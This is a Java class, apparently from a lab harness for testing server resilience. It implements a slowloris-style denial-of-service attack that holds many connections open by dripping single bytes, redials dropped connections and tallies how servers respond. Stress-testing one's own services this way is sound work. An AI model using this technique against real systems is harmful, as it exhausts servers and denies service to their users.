package org.understudy.lab.attack;

import java.io.IOException;
import java.net.InetSocketAddress;
import java.nio.ByteBuffer;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.List;
import java.util.function.Function;
import java.util.function.LongFunction;

/**
 * Many connections that begin something and are kept open: some send the rest a byte at a time, the others wait. A
 * connection that the server ends is dialled anew, at most so often a second.
 */
final class HeldConnections implements Attack {
  private static final Duration BETWEEN_BYTES = Duration.ofMillis(500);
  private static final int DIALS_A_ROUND = 500;
  /** The notice by which a replica ends the handshake of a peer without the secret: its length in two bytes, and the reason. */
  private static final int NOTICE_BYTES = 3;
  private static final int REFUSED = 403;
  private static final int SERVED = 200;

  private final String name;
  private final int connections;
  private final Function<Target, List<InetSocketAddress>> where;
  private final LongFunction<byte[]> openings;
  private final byte dripped;

  /**
   * @param where the addresses that are connected to, in turns
   * @param opening sent at once
   * @param dripped sent again and again, slowly; 0 for nothing
   */
  HeldConnections(
      String name, int connections, Function<Target, List<InetSocketAddress>> where, byte[] opening, byte dripped) {
    this(name, connections, where, n -> opening, dripped);
  }

  /** @param openings what is sent at once on the connection with a number */
  HeldConnections(
      String name,
      int connections,
      Function<Target, List<InetSocketAddress>> where,
      LongFunction<byte[]> openings,
      byte dripped) {
    this.name = name;
    this.connections = connections;
    this.where = where;
    this.openings = openings;
    this.dripped = dripped;
  }

  @Override
  public String name() {
    return name;
  }

  @Override
  public void run(Target target, Tally tally, Deadline deadline) throws IOException, InterruptedException {
    List<SocketChannel> open = new ArrayList<>();
    try {
      while (!deadline.passed()) {
        dial(target, tally, deadline, open);
        look(tally, open);
        deadline.pause(BETWEEN_BYTES);
      }
    } finally {
      for (SocketChannel channel : open) {
        channel.close();
      }
    }
  }

  private void dial(Target target, Tally tally, Deadline deadline, List<SocketChannel> open) {
    List<InetSocketAddress> addresses = where.apply(target);
    for (int dials = 0; open.size() < connections && dials < DIALS_A_ROUND && !deadline.passed(); dials++) {
      tally.sent();
      try {
        SocketChannel channel = target.open(addresses.get((int) (tally.attempts() % addresses.size())));
        open.add(channel);
        channel.write(ByteBuffer.wrap(openings.apply(tally.attempts())));
      } catch (IOException e) {
        tally.closed();
        return;
      }
    }
  }

  /** 0 for the head alone, which a request that waits gets at once: the connection is held on. */
  private static int status(String text) {
    if (!text.startsWith("HTTP/")) {
      return text.length() == NOTICE_BYTES ? REFUSED : SERVED;
    }
    int status = Target.Answer.status(text);
    return status == 200 && !text.contains("Envelope>") ? 0 : status;
  }

  private void look(Tally tally, List<SocketChannel> open) throws IOException {
    ByteBuffer answer = ByteBuffer.allocate(8_192);
    for (Iterator<SocketChannel> channels = open.iterator(); channels.hasNext(); ) {
      SocketChannel channel = channels.next();
      answer.clear();
      int status = 0;
      String text = "";
      boolean over;
      try {
        int read = channel.read(answer);
        over = read < 0;
        if (read > 0) {
          text = new String(answer.array(), 0, read, StandardCharsets.ISO_8859_1);
          status = status(text);
        } else if (read == 0 && dripped != 0) {
          channel.write(ByteBuffer.wrap(new byte[] {dripped}));
        }
      } catch (IOException e) {
        over = true;
      }
      if (status != 0) {
        tally.answered(new Target.Answer(status, text));
      } else if (over) {
        tally.closed();
      }
      if (status != 0 || over) {
        channels.remove();
        channel.close();
      }
    }
  }
}
